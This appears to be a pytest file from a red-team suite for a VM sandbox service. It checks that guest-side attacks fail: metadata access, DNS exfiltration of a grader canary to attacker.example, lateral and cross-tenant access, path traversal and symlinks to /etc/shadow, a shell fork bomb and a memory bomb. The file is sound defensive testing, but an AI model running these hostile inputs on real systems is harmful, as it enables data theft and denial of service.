"""Catalog sections D, F, the cross-tenant pair, host invariants and C on
the VM tiers (see test_h_guest_ab.py). File order matters: the resource
probes come last, and c-linger ends each tier's session guest (its kill
must leave no QEMU).

Network (D): until the vm tier's network lands (another branch), a guest
has no device but loopback, and every probe gets the guest kernel's exact
"no route" errno; with a device, no connection to the host, the daemon, the
metadata address or another sandbox may succeed.

Resources (C): the guest's processes are not host processes; what bounds
them is QEMU's cgroup, read from the host: memory (guest RAM + QEMU's own
+ TCG's cache), pids, the CPU quota, and the overlay disk on the host.
"""
import os
import time

import warren
from catalog import GUEST_COLUMNS
from conftest import BUILD, kernel_log, qemu_pid, sha256_file
from guestexpect import (GUEST_EGRESS_NO_NIC, GUEST_EGRESS_NO_NIC_TIER, GUEST_MISC, want)
from redlib import parse, probe, unesc
from test_f_api import api, attacks, status
from test_h_guest_ab import full_hunt, no_route

# ---------------------------------------------------------------- D


@probe("d-metadata", GUEST_COLUMNS)
def test_d_metadata_guest(ctx):
    for addr, port in (("169.254.169.254", 80), ("100.100.100.200", 80),
                       ("fd00:ec2::254", 80)):
        outcome = parse(ctx.probe("connect-tcp", addr, port)[0])[1]
        assert no_route(ctx, outcome, addr), (addr, outcome)
    ctx.g().host_check(ctx.row)


@probe("d-dns-exfil", GUEST_COLUMNS)
def test_d_dns_exfil_guest(ctx):
    from conftest import enc
    secret = enc(ctx.rt.canaries["grader"])[:40]
    lines = ctx.probe("dns", f"{secret}.attacker.example", "8.8.8.8", "1.1.1.1")
    for ln in lines:
        p = ln.split()
        if ln.startswith(("dns udp53", "dns tcp53", "dns doh443")):
            assert no_route(ctx, p[-1], p[2]), ln
        elif ln.startswith("dns resolver "):
            # the image's own resolv.conf (Debian's): no route to it either
            assert no_route(ctx, p[-1], p[2]), ln
    ctx.g().host_check(ctx.row)


@probe("d-egress-bypass", GUEST_COLUMNS)
def test_d_egress_guest(ctx):
    got = ctx.outcomes(ctx.probe("egress", "1.1.1.1", "2606:4700:4700::1111", 443), "egress")
    if ctx.g().nic or ctx.g().has_nic():
        assert got["tcp4"] != "ok" and got["tcp6"] != "ok", got
    else:
        exp = {k: want(GUEST_EGRESS_NO_NIC, k, ctx.tier, ctx.uid, GUEST_EGRESS_NO_NIC_TIER)
               for k in GUEST_EGRESS_NO_NIC}
        assert got == exp, {k: (got.get(k), exp[k]) for k in exp if got.get(k) != exp[k]}
        lines = ctx.probe("ls", "/sys/class/net")
        assert lines[0].endswith("names=lo"), lines  # nothing but loopback
    ctx.g().host_check(ctx.row)


@probe("d-abstract-unix", GUEST_COLUMNS)
def test_d_abstract_unix_guest(ctx):
    from conftest import enc
    names = ctx.rt.abstract + ["/tmp/.X11-unix/X0", "dbus-session", "warren"]
    _, _, kv = parse(ctx.probe("abstract", *[enc(n) for n in names])[0])
    assert kv["connected"] == "0", kv  # none of the host's exists in a guest


@probe("d-lateral", GUEST_COLUMNS)
def test_d_lateral_guest(ctx):
    rt = ctx.rt
    for addr in rt.v4 + rt.v6 + ["10.0.2.2", "10.0.0.1", "172.17.0.1"]:
        outcome = parse(ctx.probe("connect-tcp", addr, rt.d.port)[0])[1]
        assert no_route(ctx, outcome, addr), (addr, outcome)
    # the victim (bob's container) is nowhere in the guest
    for ln in ctx.probe("procwalk")[1:]:
        assert "sleep" not in unesc(parse(ln)[2].get("comm", "")) or ctx.tier == "vm", ln
    ctx.g().host_check(ctx.row)


# ---------------------------------------------------------------- F, x

@probe("f-idor", GUEST_COLUMNS)
def test_f_idor_guest(ctx):
    """Bob's token on alice's guest: every route 404, the guest runs on."""
    sb = ctx.sandbox()
    got = attacks(api(ctx.rt.bob), sb.sandbox_id)
    got["screen"] = status(api(ctx.rt.bob), "GET", f"/sandboxes/{sb.sandbox_id}/screen")
    assert got == {k: 404 for k in got}, got
    assert sb.is_running()
    ctx.g().host_check(ctx.row)


@probe("f-token-steal", GUEST_COLUMNS)
def test_f_token_steal_guest(ctx):
    kv = full_hunt(ctx)
    assert kv["nhits"] == "0", kv["hits"][:300]
    env = ctx.run(["env"]).stdout
    assert env and "PATH=" in env
    for name in ("WARREN_", "TOKEN", "API_KEY"):
        assert not [ln for ln in env.splitlines() if ln.startswith(name)], env


@probe("f-path-traversal", GUEST_COLUMNS)
def test_f_path_traversal_guest(ctx):
    """The files API on a guest resolves inside the guest: its /etc/passwd,
    never the host's; NUL and empty paths are 400."""
    sb = ctx.sandbox()
    http = api(ctx.rt.alice)
    p = f"/sandboxes/{sb.sandbox_id}/files"
    host = open("/etc/passwd", "rb").read()
    inside = sb.files.read("/etc/passwd", format="bytes")
    assert inside != host
    for path in ("../../../../../../etc/passwd", "/tmp/../../../etc/passwd"):
        try:
            assert http.request("GET", p, params={"path": path}).content == inside, path
        except warren.exceptions.WarrenError as e:
            assert e.code in ("invalid_argument", "not_found"), (path, e)
    for path in ("/etc/passwd\0", ""):
        assert status(http, "GET", p, params={"path": path}) == 400, repr(path)
    g = str(ctx.rt.grader / "expected_answer.txt")
    assert status(http, "GET", p, params={"path": g}) == 404


@probe("f-symlink-read", GUEST_COLUMNS)
def test_f_symlink_read_guest(ctx):
    """A link the guest plants towards host-looking paths resolves in the
    guest (its own /etc/shadow for root; nothing of the grader's)."""
    sb = ctx.sandbox()
    d = f"/tmp/wr-rt-links-{ctx.uid}"
    g = str(ctx.rt.grader / "expected_answer.txt")
    r = ctx.run(["sh", "-c", f"rm -rf {d}; mkdir -p {d} && ln -s /etc/shadow {d}/shadow && "
                 f"ln -s {g} {d}/grader && ln -s /proc/self/root/etc/passwd {d}/rootlink"])
    assert r.exit_code == 0, r
    http = api(ctx.rt.alice)
    host_shadow = open("/etc/shadow", "rb").read()
    for name in ("shadow", "grader", "rootlink"):
        try:
            body = http.request("GET", f"/sandboxes/{sb.sandbox_id}/files",
                                params={"path": f"{d}/{name}"}).content
        except warren.exceptions.WarrenError as e:
            assert e.status in (400, 403, 404), (name, e)
            continue
        assert body != host_shadow, name
        ctx.rt.check_output(f"f-symlink-read {name}", body)


@probe("f-log-inject", GUEST_COLUMNS)
def test_f_log_inject_guest(ctx):
    r = ctx.run(["wr-probe", "inject"])
    assert r.reason == "exited" and r.exit_code == 0, r
    assert '{"type":"exit","exit_code":0' in r.stdout and "\x00NUL\x00" in r.stdout
    assert "\x1b[2J" in r.stdout and r.stdout == r.stderr
    assert ctx.sandbox().is_running()


@probe("x-cross-tenant", GUEST_COLUMNS)
def test_x_cross_tenant_guest(ctx):
    rt = ctx.rt
    sb = ctx.sandbox()
    for attacker, sid in ((rt.bob, sb.sandbox_id), (rt.alice, rt.victim.sandbox_id)):
        got = attacks(api(attacker), sid)
        assert got == {k: 404 for k in got}, (sid, got)
    assert sb.is_running() and rt.victim.is_running()
    assert full_hunt(ctx)["nhits"] == "0"


@probe("x-host-invariants", GUEST_COLUMNS)
def test_x_host_invariants_guest(ctx):
    g = ctx.g()
    assert sha256_file(g.base) == g.base_digest, "the store's image changed"
    for b in ("warrend", "warren-init", "warren-zygote"):
        assert sha256_file(BUILD / b) == ctx.rt.digests[b], b
    _, trouble = kernel_log(ctx.rt.kmsg_seq0)
    assert not trouble, trouble[:5]
    mounts = open("/proc/self/mountinfo").read()
    assert g.sb.sandbox_id not in mounts  # QEMU's jail mounts are its own
    g.host_check(ctx.row)


# ---------------------------------------------------------------- C

def _cpu_s(pid):
    """QEMU's CPU time (all its threads), from the host: what its cgroup's
    quota bounds (QEMU is alone in its leaf)."""
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")


def _qemu_disk_bytes(g):
    """What QEMU's writable files take on the host (its overlay disk)."""
    total = 0
    for fd in os.listdir(f"/proc/{g.pid}/fd"):
        try:
            t = os.readlink(f"/proc/{g.pid}/fd/{fd}")
            st = os.stat(f"/proc/{g.pid}/fd/{fd}")
        except OSError:
            continue
        if t.startswith("/") and g.sb.sandbox_id in t and "disk" in os.path.basename(t):
            total = max(total, st.st_blocks * 512)
    return total


@probe("c-fds", GUEST_COLUMNS)
def test_c_fds_guest(ctx):
    _, outcome, kv = parse(ctx.probe("fdfill", timeout=60)[0])
    assert outcome == "EMFILE", (outcome, kv)  # the guest's own limit
    assert kv["raise_soft_to_hard"] == "ok", kv
    assert kv["raise_hard"] == want(GUEST_MISC, "raise_hard", ctx.tier, ctx.uid), kv
    ctx.g().host_check(ctx.row)


@probe("c-cpu", GUEST_COLUMNS)
def test_c_cpu_guest(ctx):
    g = ctx.g()
    assert parse(ctx.probe("sched-fifo")[0])[1] == \
        want(GUEST_MISC, "sched-fifo", ctx.tier, ctx.uid)
    # busy loops on every vCPU: QEMU gets at most its quota of the host
    quota = g.limits["cpu.quota"] / g.limits["cpu.period"]
    u0, t0 = _cpu_s(g.pid), time.time()
    ctx.probe("spin", 2, 6, timeout=120)
    used, wall = _cpu_s(g.pid) - u0, time.time() - t0
    assert quota > 0 and used <= quota * wall * 1.15 + 0.5, (used, wall, quota)
    g.host_check(ctx.row)


@probe("c-disk", GUEST_COLUMNS)
def test_c_disk_guest(ctx):
    """Filling the guest's disk ends in ENOSPC at the disk's size; on the
    host the overlay never grows past the virtual disk."""
    g = ctx.g()
    where = "/" if ctx.uid == 0 else "/tmp"
    if ctx.tier == "microvm":
        r = ctx.run(["sh", "-c", f"wr-probe diskfill {where}; rm -f {where}/wr-probe-fill.*; "
                     f"wr-probe inodefill {where} | cut -c1-200; "
                     f"rm -rf {where}/wr-probe-inodes.*"], timeout=600)
        assert "inodefill errno=ENOSPC" in r.stdout, r.stdout[-500:]
    else:
        # the Debian disk (1 GiB ext4) is filled once, by root, and kept
        # full for uid 1000's turn; ~45k inodes over TCG would take minutes
        # more (the inode limit is the guest filesystem's own; the host's
        # bound is the overlay's size, checked here)
        clean = "; rm -f /wr-probe-fill.* /tmp/wr-probe-fill.*" if ctx.uid != 0 else ""
        r = ctx.run(["sh", "-c", f"wr-probe diskfill {where}"], timeout=900)
        if clean:
            ctx.run(["sh", "-c", clean.lstrip("; ")], user=0, timeout=120)
    assert "diskfill errno=ENOSPC" in r.stdout, r.stdout[-500:]
    virt = 64 << 20 if ctx.tier == "microvm" else os.path.getsize(g.base)
    used = _qemu_disk_bytes(g)
    assert used <= virt + (64 << 20), (used, virt)
    assert sha256_file(g.base) == g.base_digest
    g.host_check(ctx.row)


@probe("c-forkbomb", GUEST_COLUMNS)
def test_c_forkbomb_guest(ctx):
    """A shell fork bomb in the guest, bounded by the command's timeout: the
    guest's processes are not the host's (QEMU's pids stay under its
    pids.max), the daemon answers, the guest answers again."""
    g = ctx.g()
    host_pids = len(os.listdir("/proc"))
    t0 = time.time()
    r = ctx.run(["sh", "-c", "b() { b | b & }; b"], timeout=5)
    assert r.reason in ("timeout", "exited"), r.reason
    assert warren.Sandbox.health(**ctx.rt.alice) is not None
    assert len(os.listdir("/proc")) < host_pids + 200  # nothing of it on the host
    assert time.time() - t0 < 120
    # until the guest answers again, a command may fail inside (exit != 0)
    # or the guest may refuse to start it for lack of processes or memory:
    # 429 or 503 naming the guest's error, never a 500 (InternalError
    # fails the test at once)
    deadline = time.time() + 120
    while True:
        try:
            r = ctx.run(["wr-probe", "exit", "0"], timeout=30)
            if r.exit_code == 0:
                break
            why = f"{r.reason} {r.exit_code} {r.stderr[-300:]!r}"
        except (warren.ResourceExhaustedError, warren.UnavailableError) as e:
            why = str(e)
        assert time.time() < deadline, f"the guest did not recover: {why}"
        time.sleep(1)
    g.host_check(ctx.row)


@probe("c-membomb", GUEST_COLUMNS)
def test_c_membomb_guest(ctx):
    """2x the guest's RAM: the guest's OOM killer ends it inside; QEMU's
    memory, read from its cgroup, stays under the bound it was given."""
    g = ctx.g()
    _, outcome, _ = parse(ctx.probe("put", "/proc/self/oom_score_adj", "-1000")[0])
    assert outcome == want(GUEST_MISC, "oom_score_adj", ctx.tier, ctx.uid), outcome
    mb = 512 if ctx.tier == "microvm" else 1024
    # the bomb offers itself to the guest's OOM killer first (raising
    # one's own score needs no privilege): otherwise Debian's OOM killer
    # may take qemu-guest-agent along, and the command in flight is lost
    r = ctx.run(["sh", "-c", f"echo 1000 > /proc/self/oom_score_adj && exec wr-probe membomb "
                 f"{mb}"], timeout=180)
    assert r.reason in ("oom", "signaled") or (r.reason == "exited" and r.exit_code == 137), r
    assert ctx.run(["true"]).exit_code == 0
    g.host_check(ctx.row)


@probe("c-linger", GUEST_COLUMNS)
def test_c_linger_guest(ctx):
    """A command's timeout ends its process group; the sandbox's kill ends
    QEMU and everything in the guest (the tier's last probe: the session's
    guest goes)."""
    g = ctx.g()
    r = ctx.run(["sh", "-c", "wr-probe linger 300; wr-probe sleep 100"], timeout=3)
    assert r.reason == "timeout", r
    assert parse(ctx.probe("kill", 1, "KILL")[0])[1] == \
        want(GUEST_MISC, "kill-1", ctx.tier, ctx.uid)
    if ctx.uid == 0:
        return  # the uid-1000 column (next) ends the guest
    sid, pid = g.sb.sandbox_id, g.pid
    g.host_check(ctx.row)
    g.kill()
    deadline = time.time() + 30
    while time.time() < deadline and (qemu_pid(sid) or os.path.exists(f"/proc/{pid}")):
        time.sleep(0.2)
    assert not qemu_pid(sid) and not os.path.exists(f"/proc/{pid}"), \
        f"QEMU of {sid} outlived its kill"
    assert not [p for p in os.listdir("/proc") if p.isdigit() and _named(p, sid)]


def _named(p, sid):
    try:
        return sid.encode() in open(f"/proc/{p}/cmdline", "rb").read()
    except OSError:
        return False

